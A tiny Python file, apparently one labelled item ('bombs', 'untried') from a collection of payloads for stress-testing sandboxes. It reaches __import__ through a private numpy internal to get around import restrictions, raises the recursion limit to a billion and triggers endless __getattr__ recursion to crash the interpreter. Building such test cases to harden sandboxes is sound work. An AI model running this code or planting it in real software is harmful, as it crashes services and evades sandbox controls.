"""Family: bombs. Stock: untried. Recurses without end, in C."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

sys = anything("sys")


class Deep:
    def __getattr__(self, name):
        return getattr(self, name)


def spread(x):
    sys.setrecursionlimit(10**9)
    return getattr(Deep(), "x")
